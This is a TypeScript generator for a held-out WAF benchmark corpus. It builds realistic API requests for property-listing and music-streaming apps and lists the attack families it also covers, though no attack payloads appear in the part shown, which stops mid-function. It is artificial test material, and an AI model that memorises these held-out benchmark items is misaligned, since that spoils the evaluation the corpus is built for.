// biome-ignore-all lint/suspicious/noTemplateCurlyInString: payloads hold literal ${…}
/**
 * Held-out corpus 7 for the WAF API profile, written blind (without reading the WAF, its policies, its docs,
 * the measuring script or the other corpora; only the `CorpusRequest` type is imported).
 *
 * Domains (new in this corpus): a property-management / real-estate listings API, a music streaming and podcast
 * platform, a government services portal, a scientific data platform (datasets, saved searches, notebooks), an
 * open-source package registry (READMEs, changelogs, manifests, security advisories) and a ticketing / events app.
 *
 * - `clean-heldout7.json` (ids `h7c…`): realistic traffic of those domains. Kinds: rest-write, jsonapi, graphql,
 *   merge-patch, json-patch, delete, cms-html, issue-comment, prose, search, form, multipart, ndjson, webhook,
 *   readme, manifest, advisory, notebook, saved-search, lyrics.
 * - `attacks-heldout7.json` (ids `h7a…`): families sql, nosql, template, command, path-traversal, ssrf,
 *   prototype-pollution, log4shell, xss; techniques plain, nested, key, array, unicode-escape, json-in-string,
 *   base64, graphql-variable, double-encoded, query-param, header, cookie, form, multipart.
 * - Exclude fields ({@link HELDOUT7_EXCLUDE_FIELDS}): `body.cells[].source` (notebook code cells) and
 *   `body.savedSearch.expression` (SQL-like saved filter expressions); no attack uses them.
 *
 * Run: `node bench/waf/corpus/heldout7.ts` writes both files next to this script (seeded mulberry32, so the
 * output is identical on every run).
 */
import { writeFileSync } from 'node:fs';
import { dirname, join } from 'node:path';
import { fileURLToPath } from 'node:url';
import type { CorpusRequest } from './generate.ts';

type Req = Omit<CorpusRequest, 'id'>;
type Hdrs = Record<string, string>;

/** Fields a user of the API profile would exclude from inspection because they hold code by design. */
export const HELDOUT7_EXCLUDE_FIELDS: string[] = ['body.cells[].source', 'body.savedSearch.expression'];

// ---------------------------------------------------------------------------------------------------------
// Deterministic helpers
// ---------------------------------------------------------------------------------------------------------

function mulberry32(seed: number): () => number {
  let a = seed >>> 0;
  return () => {
    a = (a + 0x6d2b79f5) >>> 0;
    let t = a;
    t = Math.imul(t ^ (t >>> 15), t | 1);
    t ^= t + Math.imul(t ^ (t >>> 7), t | 61);
    return ((t ^ (t >>> 14)) >>> 0) / 4294967296;
  };
}

const rnd = mulberry32(0x7e1d_0707);
const pick = <T>(xs: readonly T[]): T => xs[Math.floor(rnd() * xs.length)] as T;
const int = (lo: number, hi: number): number => lo + Math.floor(rnd() * (hi - lo + 1));
const chance = (p: number): boolean => rnd() < p;
const hex = (n: number): string => {
  let s = '';
  for (let i = 0; i < n; i++) s += '0123456789abcdef'[Math.floor(rnd() * 16)];
  return s;
};
const alnum = (n: number): string => {
  const cs = 'ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789';
  let s = '';
  for (let i = 0; i < n; i++) s += cs[Math.floor(rnd() * cs.length)];
  return s;
};
const bytes = (n: number): Buffer => {
  const b = Buffer.alloc(n);
  for (let i = 0; i < n; i++) b[i] = Math.floor(rnd() * 256);
  return b;
};
const b64 = (s: string): string => Buffer.from(s, 'utf8').toString('base64');
const b64url = (s: string | Buffer): string => Buffer.from(s).toString('base64url');
const uuid = (): string => {
  const h = hex(32);
  return `${h.slice(0, 8)}-${h.slice(8, 12)}-4${h.slice(13, 16)}-${pick(['8', '9', 'a', 'b'])}${h.slice(17, 20)}-${h.slice(20)}`;
};
const some = <T>(xs: readonly T[], lo: number, hi: number): T[] => {
  const n = Math.min(xs.length, int(lo, hi));
  const pool = [...xs];
  const out: T[] = [];
  for (let i = 0; i < n; i++) out.push(pool.splice(Math.floor(rnd() * pool.length), 1)[0] as T);
  return out;
};
const para = (pool: readonly string[], lo: number, hi: number): string => some(pool, lo, hi).join(' ');
const isoDate = (): string =>
  `2026-${String(int(1, 12)).padStart(2, '0')}-${String(int(1, 28)).padStart(2, '0')}T${String(int(6, 22)).padStart(2, '0')}:${pick(['00', '15', '30', '45'])}:00Z`;

function jwt(): string {
  const head = b64url(JSON.stringify({ alg: 'RS256', typ: 'JWT', kid: `k${int(1, 9)}` }));
  const iat = 1764300000 + int(0, 90000);
  const body = b64url(JSON.stringify({ sub: `usr_${alnum(10)}`, iat, exp: iat + 3600, scope: 'read write' }));
  return `${head}.${body}.${b64url(bytes(64))}`;
}

/** Query string with percent-encoding as fetch/axios clients produce it (`%20` for spaces). */
function qs(pairs: ReadonlyArray<readonly [string, string]>, keepBrackets = true): string {
  return pairs
    .map(([k, v]) => {
      const key = encodeURIComponent(k);
      return `${keepBrackets ? key.replace(/%5B/g, '[').replace(/%5D/g, ']') : key}=${encodeURIComponent(v)}`;
    })
    .join('&');
}
/** application/x-www-form-urlencoded, as browsers encode form posts (`+` for spaces). */
function form_(pairs: ReadonlyArray<readonly [string, string]>): string {
  return new URLSearchParams(pairs.map(([k, v]): [string, string] => [k, v])).toString();
}

interface Part {
  readonly name: string;
  readonly value: string;
  readonly filename?: string;
  readonly type?: string;
}
function multipart(parts: readonly Part[], browser: boolean): { ct: string; body: string } {
  const boundary = browser ? `----WebKitFormBoundary${alnum(16)}` : `------------------------${hex(16)}`;
  let body = '';
  for (const p of parts) {
    body += `--${boundary}\r\n`;
    body += `Content-Disposition: form-data; name="${p.name}"${p.filename !== undefined ? `; filename="${p.filename}"` : ''}\r\n`;
    if (p.type) body += `Content-Type: ${p.type}\r\n`;
    body += `\r\n${p.value}\r\n`;
  }
  body += `--${boundary}--\r\n`;
  return { ct: `multipart/form-data; boundary=${boundary}`, body };
}

// ---------------------------------------------------------------------------------------------------------
// Clients and headers
// ---------------------------------------------------------------------------------------------------------

const BROWSERS = [
  'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/142.0.0.0 Safari/537.36',
  'Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/26.0 Safari/605.1.15',
  'Mozilla/5.0 (X11; Ubuntu; Linux x86_64; rv:145.0) Gecko/20100101 Firefox/145.0',
  'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/142.0.0.0 Safari/537.36 Edg/142.0.0.0',
  'Mozilla/5.0 (iPhone; CPU iPhone OS 18_6 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/18.6 Mobile/15E148 Safari/604.1',
  'Mozilla/5.0 (Linux; Android 15; Pixel 8) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/142.0.0.0 Mobile Safari/537.36',
];
const MOBILE = [
  'okhttp/4.12.0',
  'Dart/3.5 (dart:io)',
  'Tunewave/8.14.2 (iPhone; iOS 18.6; Scale/3.00) CFNetwork/1568.100.1 Darwin/24.0.0',
  'HomeFinder/5.3.0 (Linux; U; Android 14; SM-S918B Build/UP1A.231005.007)',
  'TicketTap/3.21.0 (com.tickettap.app; build:4410; iOS 18.5.0) Alamofire/5.9.1',
];
const LIBS = [
  'python-requests/2.32.5',
  'axios/1.12.2',
  'node',
  'Go-http-client/1.1',
  'curl/8.14.1',
  'PostmanRuntime/7.49.1',
  'Python/3.12 aiohttp/3.12.15',
  'Java/21.0.5',
];
const LANGS = [
  'en-GB,en;q=0.9',
  'en-US,en;q=0.9',
  'fr-FR,fr;q=0.9,en;q=0.8',
  'es-ES,es;q=0.9',
  'ja,en-US;q=0.7',
  'ar-SA,ar;q=0.9,en;q=0.6',
  'de-DE,de;q=0.9,en;q=0.8',
];

type Client = 'browser' | 'mobile' | 'lib';

function cookie(): string {
  const parts = [
    `sid=${b64url(bytes(24))}`,
    `_ga=GA1.1.${int(100000000, 999999999)}.${int(1700000000, 1764000000)}`,
  ];
  if (chance(0.5)) parts.push(`theme=${pick(['dark', 'light', 'system'])}`);
  if (chance(0.3))
    parts.push(
      `cc_cookie=${encodeURIComponent(JSON.stringify({ categories: ['necessary', 'analytics'], revision: 0 }))}`,
    );
  if (chance(0.3)) parts.push(`locale=${pick(['en-GB', 'fr', 'es', 'ja', 'ar'])}`);
  return parts.join('; ');
}

function hdrs(client: Client, ct: string | null, extra: Hdrs = {}, accept?: string): Hdrs {
  const h: Hdrs = {};
  if (client === 'browser') {
    h['user-agent'] = pick(BROWSERS);
    h.accept = accept ?? 'application/json, text/plain, */*';
    h['accept-language'] = pick(LANGS);
    if (ct) h['content-type'] = ct;
    h.cookie = cookie();
    if (chance(0.5)) h.authorization = `Bearer ${jwt()}`;
    else if (ct) h['x-csrf-token'] = b64url(bytes(24));
  } else if (client === 'mobile') {
    h['user-agent'] = pick(MOBILE);
    h.accept = accept ?? 'application/json';
    h['accept-encoding'] = 'gzip';
    if (ct) h['content-type'] = ct;
    h.authorization = `Bearer ${jwt()}`;
  } else {
    h['user-agent'] = pick(LIBS);
    h.accept = accept ?? (chance(0.5) ? 'application/json' : '*/*');
    if (ct) h['content-type'] = ct;
    h.authorization = chance(0.7) ? `Bearer ${jwt()}` : `Token ${alnum(40)}`;
  }
  return { ...h, ...extra };
}

const anyClient = (): Client => pick<Client>(['browser', 'browser', 'mobile', 'lib']);

function jreq(
  kind: string,
  method: string,
  path: string,
  body: unknown,
  client: Client = anyClient(),
  ct = 'application/json',
): Req {
  const accept = ct === 'application/vnd.api+json' ? 'application/vnd.api+json' : undefined;
  return { kind, method, path, headers: hdrs(client, ct, {}, accept), body: JSON.stringify(body) };
}
function getreq(kind: string, path: string, client: Client = anyClient()): Req {
  return { kind, method: 'GET', path, headers: hdrs(client, null), body: '' };
}
function gql(
  kind: string,
  path: string,
  query: string,
  variables: unknown,
  operationName: string | null,
  client: Client = anyClient(),
): Req {
  const payload: Record<string, unknown> = { query, variables };
  if (operationName) payload.operationName = operationName;
  return jreq(kind, 'POST', path, payload, client);
}

// ---------------------------------------------------------------------------------------------------------
// Shared text pools
// ---------------------------------------------------------------------------------------------------------

const NAMES = [
  "Siobhán O'Connor",
  "D'Arcy Whitfield",
  'José Ángel Martínez',
  'Zoë Lefèvre',
  'Priya Raghunathan',
  '山田 花子',
  'محمد العتيبي',
  'Oluwaseun Adeyemi',
  'Björn Åkesson',
  "Liam O'Neill-Byrne",
  'Nguyễn Thị Lan',
  'Chloé Dubois',
  'Małgorzata Wiśniewska',
  'Tomás Ó Briain',
];
const EMAILS = [
  's.oconnor@example.ie',
  'darcy.w@example.co.uk',
  'jose.martinez@example.es',
  'zoe@example.fr',
  'priya.r@example.in',
  'hanako.y@example.jp',
  'm.alotaibi@example.sa',
  'seun@example.ng',
  'bjorn@example.se',
  'liam.onb@example.com',
];
const ADDRESSES = [
  { line1: "12 O'Connell Street", line2: 'Flat 3B', city: 'Dublin', postcode: 'D01 F5P2' },
  { line1: "27 Rue de l'Église", line2: 'Bât. C, 2e étage', city: 'Lyon', postcode: '69003' },
  { line1: "Unit 7, 455 King's Road", line2: '', city: 'London', postcode: 'SW10 0LR' },
  { line1: "3/14 Smith's Lane", line2: 'Unit 3', city: 'Fitzroy VIC', postcode: '3065' },
  { line1: 'Calle Mayor 21', line2: '2º izq.', city: 'Madrid', postcode: '28013' },
  { line1: '1600 N Lake Shore Dr', line2: 'Apt #2104', city: 'Chicago, IL', postcode: '60614' },
  { line1: '神南1-2-3', line2: '渋谷マンション502', city: '東京都渋谷区', postcode: '150-0041' },
  { line1: 'شارع الملك فهد، مبنى 14', line2: 'شقة 3', city: 'الرياض', postcode: '12211' },
  { line1: "Flat 2/1, 88 St. Vincent's Crescent", line2: '', city: 'Glasgow', postcode: 'G3 8LH' },
  { line1: 'Østerbrogade 112', line2: '3. th.', city: 'København Ø', postcode: '2100' },
];

// ---------------------------------------------------------------------------------------------------------
// Clean corpus
// ---------------------------------------------------------------------------------------------------------

const clean: Req[] = [];
const add = (r: Req): void => {
  clean.push(r);
};

// ---- property management / real-estate listings --------------------------------------------------------

const LISTING_SENTENCES = [
  'Bright south-facing two-bedroom apartment on the 4th floor with lift access.',
  "The owner's select furniture pieces (oak dining table, two armchairs) can stay by arrangement — or we'll drop the table if you'd rather furnish it yourself.",
  "Walking distance to Union Station and the farmers' market on Saturdays.",
  'Recently renovated kitchen: quartz worktops, induction hob, Bosch dishwasher & a wine fridge.',
  "Quiet residential street — you'll actually sleep 8 hours here.",
  'Council tax band C. EPC rating B (84).',
  'Pets considered: 1 cat or a small dog (<10 kg) with an additional £200 deposit.',
  "Please note the 'study' is 2.1 m × 2.4 m: fine as a home office, not a bedroom.",
  'Includes allocated parking space #14 and a secure bike store with 24/7 access.',
  'Appartement lumineux de 3 pièces, proche du métro, idéal pour un couple ou une colocation.',
  'Piso exterior reformado, con calefacción central y trastero incluido.',
  '駅から徒歩5分、南向きのバルコニー付き。ペット相談可。',
  'شقة واسعة مع إطلالة على البحر، قريبة من المدارس والمراكز التجارية.',
  'Available from 1st March; minimum 12-month tenancy with a break clause after 6 months.',
  'Ground rent £250/yr; service charge £1,840/yr (covers buildings insurance, cleaning and the lift).',
  'Utilities not included — expect ~$120/month for gas + electric in winter.',
  'Open house Sat 11:00–13:00, no appointment needed.',
  'Room sizes: living room 5.2 × 4.1 m, bedroom 1 3.9 × 3.3 m, bedroom 2 3.0 × 2.7 m.',
  "The building has a 'no short lets' rule, so Airbnb/holiday lets are not permitted.",
  'Heating is via a combi boiler (serviced Oct 2025; gas safety certificate on file).',
  'Shops, cafés and a 24-hour gym are all within 5 minutes; the #38 bus stops outside.',
  'Reduced from $2,450 to $2,300 — the landlord wants it let before the holidays!',
  "Vendor's note: \"We've loved living here; it's where our kids grew up 💛\"",
  'Wohnung im 3. OG ohne Aufzug, Einbauküche und Kellerabteil vorhanden.',
  'Communal garden with BBQ area; residents take turns to cut the grass (rota in the hallway).',
  'Sold as seen. Cash buyers only — the property is not mortgageable until the roof is repaired.',
];
const AGENT_NOTES = [
  "Tenant in 3B says the key safe code is written on the fob — don't put it in the listing!",
  "Landlord wants to drop the asking price by 5% if there are no offers by Friday; select the 'price reduced' badge then.",
  'Viewing at 5:30 — the buzzer for Flat 2 is broken, call 07700 900123 on arrival.',
  "Spoke w/ Mr O'Neill: he'll exec the renewal once the inventory is signed off.",
  "Damp patch in the bathroom ceiling — contractor booked for the 14th. DO NOT list as 'no issues'.",
  "Tenants' union rep asked for a copy of the fire risk assessment; sent 02/12.",
  'Cat lives at the property — allergy warning for viewers please.',
  'Kill the old ad on the portal before this one goes live, otherwise we get duplicate leads.',
  'Applicant #2 failed referencing (CCJ 2023) but offered 6 months upfront; waiting on landlord.',
  "Owner abroad until Jan; POA is her brother (D'Souza), number on file.",
  'Boiler pressure drops to 0.5 bar overnight — told tenant to top up via the filling loop, engineer if it happens again.',
  'Inventory: 2 sets of keys, 1 fob, 1 garage remote. Meter readings: E 04512, G 11873.',
];
const VIEWING_MESSAGES = [
  "Hi, could we view on Saturday morning? We're a couple with a 2-year-old and a (very quiet) dog.",
  "Is the flat still available? I'm relocating from Lisbon for work on 3 March.",
  "Bonjour, est-ce que je pourrais visiter l'appartement jeudi après 18h ?",
  'Do you accept guarantors? My parents would co-sign the tenancy.',
  'I work nights so I sleep until 2pm — any slot after 3 would work for me.',
  "Can I do a video viewing? I'm in Dubai until the 20th.",
  'こんにちは、週末の内見は可能でしょうか？',
  'مرحبا، هل يمكنني زيارة الشقة يوم الجمعة بعد الظهر؟',
  "We'd like to see it again before deciding — is the landlord open to a 2-year let?",
  'Hola, ¿se admiten mascotas? Tengo un gato de 8 años.',
  'What floor is it on, and is there a lift? My mum uses a walker.',
  "Interested! Quick q's: is the parking space included in the rent, and how's the mobile signal?",
];
const PROP_TYPES = ['flat', 'house', 'studio', 'maisonette', 'bungalow', 'penthouse'];
const PROP_TITLES = [
  'Two-bed flat with balcony, Hove',
  "Victorian terrace, St Mary's Road",
  'Studio near Union Square',
  'Penthouse — 360° city views',
  'Charming cottage, Lake District',
  'Appartement T3 — Croix-Rousse',
  'Ático con terraza en Malasaña',
  'ワンルーム 渋谷駅徒歩7分',
  'شقة فاخرة في جدة',
  'Family home w/ garden & garage',
];

function property(): void {
  for (let i = 0; i < 12; i++) {
    const addr = pick(ADDRESSES);
    add(
      jreq('rest-write', 'POST', '/api/v2/listings', {
        title: pick(PROP_TITLES),
        type: pick(PROP_TYPES),
        description: para(LISTING_SENTENCES, 3, 9),
        price: {
          amount: int(600, 4800) * 5,
          currency: pick(['GBP', 'EUR', 'USD', 'JPY', 'SAR']),
          period: pick(['month', 'week']),
        },
        bedrooms: int(0, 5),
        bathrooms: int(1, 3),
        address: addr,
        features: some(
          ['balcony', 'garden', 'parking', 'lift', 'dishwasher', 'pets-allowed', 'furnished', 'concierge'],
          1,
          4,
        ),
        availableFrom: isoDate().slice(0, 10),
        agentId: `agt_${alnum(8)}`,
      }),
    );
  }
  for (let i = 0; i < 14; i++) {
    add(
      jreq('prose', 'POST', `/api/v2/listings/${uuid()}/viewings`, {
        name: pick(NAMES),
        email: pick(EMAILS),
        phone: pick([
          '+44 7700 900456',
          '+33 6 12 34 56 78',
          '+1 (312) 555-0142',
          '090-1234-5678',
          '+966 50 123 4567',
        ]),
        message: pick(VIEWING_MESSAGES),
        preferredSlots: [isoDate(), isoDate()],
        consentToContact: chance(0.8),
      }),
    );
  }
  for (let i = 0; i < 10; i++) {
    add(
      jreq(
        'prose',
        'POST',
        `/api/v2/listings/${uuid()}/notes`,
        {
          body: para(AGENT_NOTES, 1, 3),
          visibility: pick(['internal', 'team']),
          pinned: chance(0.2),
        },
        'browser',
      ),
    );
  }
  for (let i = 0; i < 6; i++) {
    add(
      jreq(
        'jsonapi',
        pick(['POST', 'PATCH']),
        `/api/v2/listings${chance(0.5) ? `/${uuid()}` : ''}`,
        {
          data: {
            type: 'listings',
            attributes: {
              title: pick(PROP_TITLES),
              description: para(LISTING_SENTENCES, 2, 6),
              'price-amount': int(900, 3500),
              'listing-status': pick(['draft', 'active', 'under-offer', 'let-agreed']),
            },
            relationships: {
              agent: { data: { type: 'agents', id: String(int(10, 999)) } },
              photos: {
                data: [
                  { type: 'photos', id: String(int(1000, 9999)) },
                  { type: 'photos', id: String(int(1000, 9999)) },
                ],
              },
            },
          },
        },
        'browser',
        'application/vnd.api+json',
      ),
    );
  }
  for (let i = 0; i < 4; i++) {
    add(
      jreq(
        'merge-patch',
        'PATCH',
        `/api/v2/listings/${uuid()}`,
        {
          price: { amount: int(900, 3500) },
          status: pick(['reduced', 'under-offer', 'withdrawn']),
          parking: null,
          agentNotes: chance(0.5) ? pick(AGENT_NOTES) : null,
        },
        'browser',
        'application/merge-patch+json',
      ),
    );
  }
  for (let i = 0; i < 4; i++) {
    add(
      jreq(
        'json-patch',
        'PATCH',
        `/api/v2/listings/${uuid()}`,
        [
          { op: 'test', path: '/version', value: int(1, 20) },
          { op: 'replace', path: '/price/amount', value: int(900, 3500) },
          { op: 'add', path: '/features/-', value: pick(['balcony', 'garden', 'ev-charger']) },
          { op: 'remove', path: `/photos/${int(0, 6)}` },
          { op: 'replace', path: '/description', value: para(LISTING_SENTENCES, 2, 4) },
        ],
        'browser',
        'application/json-patch+json',
      ),
    );
  }
  for (let i = 0; i < 3; i++) {
    add({
      kind: 'delete',
      method: 'DELETE',
      path: `/api/v2/listings/${uuid()}/photos/${int(10000, 99999)}`,
      headers: hdrs('browser', null),
      body: '',
    });
  }
  const searches: Array<Array<[string, string]>> = [
    [
      ['q', '"sea view"'],
      ['city', 'Brighton & Hove'],
      ['price_max', '1800'],
      ['bedrooms_min', '2'],
      ['sort', '-listed_at'],
      ['page', '2'],
      ['per_page', '24'],
    ],
    [
      ['filter[type]', 'flat'],
      ['filter[price][lte]', '2000'],
      ['include', 'agent,photos'],
      ['page[size]', '20'],
      ['page[number]', '3'],
    ],
    [
      ['q', 'garden OR balcony -basement'],
      ['near', '53.3498,-6.2603'],
      ['radius_km', '5'],
    ],
    [
      ['q', 'pet-friendly "no smoking" St John\'s Wood'],
      ['furnished', 'true'],
      ['sort', 'price'],
    ],
    [
      ['q', '渋谷 1LDK'],
      ['max_walk_min', '10'],
      ['lang', 'ja'],
    ],
    [
      ['q', 'شقة مفروشة'],
      ['city', 'جدة'],
      ['sort', '-price'],
    ],
    [
      ['q', "l'appartement avec terrasse"],
      ['arrondissement', '4e'],
      ['fields[listings]', 'title,price,thumbnail'],
    ],
    [
      ['available_from', '2026-03-01'],
      ['available_to', '2026-04-15'],
      ['min_tenancy_months', '6'],
      ['sort', 'distance,-updated_at'],
    ],
  ];
  for (const s of searches) add(getreq('search', `/api/v2/listings?${qs(s, chance(0.5))}`));
  const csv = [
    'reference,title,price,bedrooms,postcode',
    'HL-1042,"Two-bed flat, Hove",1850,2,BN3 1AA',
    'HL-1043,"St Mary\'s Road terrace",2400,3,BN1 6FQ',
    'HL-1044,Studio near station,975,0,BN1 3XP',
  ].join('\r\n');
  const mp1 = multipart(
    [
      { name: 'caption', value: 'Floor plan (ground + first floor)' },
      {
        name: 'file',
        filename: 'floorplan.svg',
        type: 'image/svg+xml',
        value:
          '<svg xmlns="http://www.w3.org/2000/svg" width="400" height="300" viewBox="0 0 400 300"><rect x="10" y="10" width="380" height="280" fill="none" stroke="#333" stroke-width="2"/><text x="40" y="60" font-family="Arial" font-size="14">Living room 5.2 × 4.1 m</text><line x1="200" y1="10" x2="200" y2="290" stroke="#333"/><text x="220" y="60" font-size="14">Bedroom 1</text></svg>',
      },
    ],
    true,
  );
  add({
    kind: 'multipart',
    method: 'POST',
    path: `/api/v2/listings/${uuid()}/media`,
    headers: hdrs('browser', mp1.ct),
    body: mp1.body,
  });
  const mp2 = multipart(
    [
      { name: 'mode', value: 'upsert' },
      { name: 'file', filename: 'portfolio-export.csv', type: 'text/csv', value: csv },
    ],
    false,
  );
  add({
    kind: 'multipart',
    method: 'POST',
    path: '/api/v2/listings/bulk-import',
    headers: hdrs('lib', mp2.ct),
    body: mp2.body,
  });
  const mp3 = multipart(
    [
      { name: 'documentType', value: 'tenancy-agreement' },
      {
        name: 'file',
        filename: 'AST - Flat 3B (signed).pdf',
        type: 'application/pdf',
        value:
          '%PDF-1.4\n1 0 obj\n<< /Type /Catalog /Pages 2 0 R >>\nendobj\n2 0 obj\n<< /Type /Pages /Kids [3 0 R] /Count 1 >>\nendobj\n3 0 obj\n<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >>\nendobj\ntrailer\n<< /Root 1 0 R >>\n%%EOF',
      },
    ],
    true,
  );
  add({
    kind: 'multipart',
    method: 'POST',
    path: `/api/v2/tenancies/${uuid()}/documents`,
    headers: hdrs('browser', mp3.ct),
    body: mp3.body,
  });
  for (let i = 0; i < 3; i++) {
    add(
      gql(
        'graphql',
        '/graphql',
        'query ListingSearch($filter: ListingFilter!, $first: Int = 20, $after: String) {\n  listings(filter: $filter, first: $first, after: $after) {\n    edges { node { id title price { amount currency } bedrooms thumbnail(size: MEDIUM) } }\n    pageInfo { endCursor hasNextPage }\n  }\n}',
        {
          filter: {
            city: pick(['Leeds', 'Cork', 'Lyon', 'Osaka']),
            bedroomsMin: int(1, 3),
            keywords: pick(['garden', "children's playground", 'near station', 'select furnished']),
          },
          first: 20,
          after: b64(`cursor:${int(20, 400)}`),
        },
        'ListingSearch',
      ),
    );
  }
  add(
    form('form', 'POST', '/listings/enquiry', [
      ['listing_ref', `HL-${int(1000, 9999)}`],
      ['name', "Siobhán O'Connor"],
      ['email', 's.oconnor@example.ie'],
      ['message', "Hi — is the flat still available? We'd love to view it this weekend. Thanks!"],
      ['marketing_opt_in', 'on'],
    ]),
  );
}

function form(
  kind: string,
  method: string,
  path: string,
  pairs: ReadonlyArray<readonly [string, string]>,
): Req {
  const pairsWithToken: Array<readonly [string, string]> = [
    ['authenticity_token', bytes(32).toString('base64')],
    ...pairs,
  ];
  return {
    kind,
    method,
    path,
    headers: hdrs(
      'browser',
      'application/x-www-form-urlencoded',
      { origin: 'https://www.example.org' },
      'text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8',
    ),
    body: form_(pairsWithToken),
  };
}

// ---- music streaming / podcasts --------------------------------------------------------------------------

const PLAYLISTS = [
  'Late night drive 🌙',
  'Sunday morning ☕️ & vinyl',
  'Gym — drop sets only 💪',
  '深夜のシティポップ',
  'أغاني فيروز الصباحية',
  'Für die Fahrt nach Köln',
  "Select cuts: '70s soul",
  'sleep 8 hours (rain + piano)',
  "Rock 'n' roll ain't noise pollution",
  'Union of Sound — live sets',
  'Café del Mar chill ☀️',
  'R&B <3',
  'Lo-fi beats to study/relax to',
  'Año nuevo 🎉',
  '내가 좋아하는 K-indie',
  'Kill time on the commute',
];
const LYRICS = [
  "I can't sleep 'til the morning comes\nCounting cars on the avenue\nEvery light's a little drum\nBeating out a song for you",
  'Drop the needle, let it spin\nSelect the side where we begin\nOne for the sorrow, two for the grin\nThree for the union of our skin',
  "On s'est perdus dans la ville\nLes néons dansent sur ta peau\nJe t'attendrai, c'est si facile\nDe croire encore aux mots",
  '夜の街を歩いて\n君の声を探してる\n星が消える前に\nもう一度だけ会いたい',
  "We said we'd run away at dawn\n(Run away, run away)\nBut the kettle's on and the rain won't stop\nSo I guess we'll stay till the credits drop",
  'يا ليل طوّل شوية\nخلّي القمر يسهر معايا\nوالنجوم تحكي الحكاية',
  "Cat on the windowsill, coffee's gone cold\nExec meeting at nine but I'm ninety years old\nSleep eight hours? Baby, that's a myth I've been sold",
];
const COMMENTS = [
  'that drop at 2:31 🔥🔥🔥',
  "who's here after the select committee clip went viral?",
  'Ep. 112 was the best — the bit about running rm -rf on a Friday afternoon had me crying 😂',
  'Le refrain me donne des frissons à chaque fois.',
  'この曲で泣いた… 歌詞が最高',
  'أجمل أغنية سمعتها هذا العام ❤️',
  'Can you do an episode on union busting in the music industry?',
  "I fell asleep at 2am and woke at 10... 'sleep 8 hours' they said, lol",
  "Does anyone know the sample at 0:45? Sounds like an old '60s Motown B-side.",
  'Hot take: the album version is better than the single edit. Fight me 🥊',
  'The guest said "drop table stakes, focus on retention" and I wrote it on a post-it.',
  'Audio cuts out around 34:10 on Android (v8.14.2). Anyone else?',
  'Mi canción favorita para correr — 170 bpm perfectos.',
  'Great interview, but the host kept talking over her :/',
];
const SHOW_NOTES = [
  '<p>This week on <strong>The Data Desk</strong>, Priya and Tom talk about why <code>SELECT *</code> is a bad idea in production analytics, and what to do instead.</p><h3>Chapters</h3><ul><li><a href="#t=00:00">00:00</a> Intro</li><li><a href="#t=04:12">04:12</a> Column pruning</li><li><a href="#t=27:40">27:40</a> Listener questions</li></ul><p>Links: <a href="https://duckdb.org/docs/" target="_blank" rel="noopener noreferrer">DuckDB docs</a></p>',
  '<p>Our guest, Dr. Amara Osei, chairs the parliamentary <em>Select Committee</em> on Science &amp; Technology. We discuss sleep science (yes, you really do need 7–9 hours) and why night-shift workers are at risk.</p><blockquote><p>"Sleep is the cheapest performance enhancer there is."</p></blockquote><p><img src="https://cdn.tunewave.example/episodes/214/cover.jpg" alt="Dr Osei in the studio" width="600"></p>',
  '<h2>Épisode 37 — La musique baroque</h2><p>Avec Chloé Dubois, claveciniste. On parle de Rameau, de l\'improvisation et du <strong>continuo</strong>.</p><p>Sponsor&nbsp;: <a href="https://example.fr/?utm_source=podcast&amp;utm_campaign=ep37">Librairie du Quai</a></p>',
  '<p>Watch the live session:</p><iframe width="560" height="315" src="https://www.youtube-nocookie.com/embed/dQw4w9WgXcQ?si=Xa1b2C3d" title="YouTube video player" frameborder="0" allow="accelerometer; autoplay; clipboard-write; encrypted-media; gyroscope; picture-in-picture; web-share" referrerpolicy="strict-origin-when-cross-origin" allowfullscreen></iframe><p>Setlist: <ol><li>Union Street</li><li>Drop the Pilot (cover)</li><li>Sleepwalker</li></ol></p>',
  '<p>في هذه الحلقة نتحدث مع <strong>ليلى حداد</strong> عن تاريخ العود في الموسيقى العربية.</p><p>الروابط: <a href="https://example.org/oud">موقع الضيفة</a></p>',
  '<p><strong>Trigger warning:</strong> this episode discusses addiction.</p><p>Helplines: UK 0800 123 4567 &middot; US 1-800-555-0100</p><p>Transcript available <a href="/episodes/88/transcript">here</a>.</p><p><span style="color: rgb(102, 102, 102); font-size: 12px;">Music by Kevin &amp; the Union Jacks, CC BY 4.0</span></p>',
];

function music(): void {
  for (let i = 0; i < 10; i++) {
    add(
      jreq(
        'rest-write',
        i % 2 ? 'POST' : pick(['PUT', 'PATCH']),
        i % 2 ? '/v1/me/playlists' : `/v1/me/playlists/${alnum(22)}`,
        {
          name: pick(PLAYLISTS),
          description: chance(0.6)
            ? pick([
                'For the 6am run.',
                'Songs my dad played on Sunday mornings',
                "Everything from last night's set (minus the encore)",
                'コーヒーと一緒に',
                'Curated by @mira — suggestions welcome!',
                '',
              ])
            : null,
          public: chance(0.5),
          collaborative: chance(0.2),
        },
        pick<Client>(['browser', 'mobile']),
      ),
    );
  }
  for (let i = 0; i < 6; i++) {
    add(
      jreq(
        'rest-write',
        'POST',
        `/v1/playlists/${alnum(22)}/tracks`,
        {
          uris: Array.from({ length: int(1, 6) }, () => `tunewave:track:${alnum(22)}`),
          position: chance(0.5) ? int(0, 40) : undefined,
          snapshot_id: b64(`${int(10, 999)},${hex(12)}`),
        },
        'mobile',
      ),
    );
  }
  for (let i = 0; i < 16; i++) {
    add(
      jreq('prose', 'POST', `/v1/${pick(['episodes', 'tracks', 'albums'])}/${alnum(22)}/comments`, {
        body: pick(COMMENTS),
        timestampMs: chance(0.5) ? int(1000, 3600000) : null,
        replyTo: chance(0.3) ? `cmt_${alnum(12)}` : null,
      }),
    );
  }
  for (let i = 0; i < 6; i++) {
    add(
      jreq(
        'cms-html',
        pick(['PUT', 'PATCH']),
        `/v1/shows/${alnum(22)}/episodes/${int(1, 300)}`,
        {
          title: pick([
            'Ep. 214 — Sleep, science and select committees',
            'Épisode 37 : la musique baroque',
            'Live from Union Chapel',
            'الحلقة ١٢: العود',
            'Bonus: listener mailbag',
          ]),
